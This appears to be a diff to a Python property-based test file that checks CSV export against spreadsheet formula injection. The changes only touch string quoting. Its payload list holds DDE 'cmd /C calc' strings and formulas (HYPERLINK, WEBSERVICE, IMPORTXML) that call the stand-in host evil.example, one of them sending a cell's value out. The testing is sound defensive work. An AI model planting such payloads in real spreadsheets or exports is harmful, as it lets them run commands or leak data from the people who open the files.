@@ -35,7 +35,7 @@ STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "'=", "''+", "'''-", "＝", "
 PAYLOADS = (
     "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example?"&A1,"open")', "+1+1", "-2+3+cmd|' /C calc'!D2", "@SUM(1+9)*cmd|' /C calc'!A0",
     '=DDE("cmd";"/C calc";"x")', '=WEBSERVICE("https://evil.example")', '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")', "=1+1;=2+2",
-    "DDE (\"cmd\";\"/C calc\")", "-5", "+5", "=A1", "'=1", "''=1", "'-5", "'twas", "#REF", "=", "-", "@handle", "＝1+1", "=\u200b1",
+    'DDE ("cmd";"/C calc")', "-5", "+5", "=A1", "'=1", "''=1", "'-5", "'twas", "#REF", "=", "-", "@handle", "＝1+1", "=\u200b1",
 )  # fmt: skip
 HOSTILE = st.sampled_from(PAYLOADS) | st.tuples(st.sampled_from(STARTS), st.text(max_size=8)).map("".join)
 ANY = HOSTILE | st.text(max_size=12)
@@ -168,4 +168,4 @@ def test_no_command_writes_a_cell_that_runs(name: str, tmp_path: Path) -> None:
     assert len(cells) > 10
     assert [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not re.fullmatch(r"-?\d+(\.\d+)?", cell)] == []
     if name == "cypher":
-        assert {unguarded(row[0]) for row in list(csv.reader(io.StringIO(result.stdout)))[1:]} >= {"=cmd|' /C calc'!A0", "@handle", "=WEBSERVICE(\"https://evil.example\")"}
+        assert {unguarded(row[0]) for row in list(csv.reader(io.StringIO(result.stdout)))[1:]} >= {"=cmd|' /C calc'!A0", "@handle", '=WEBSERVICE("https://evil.example")'}
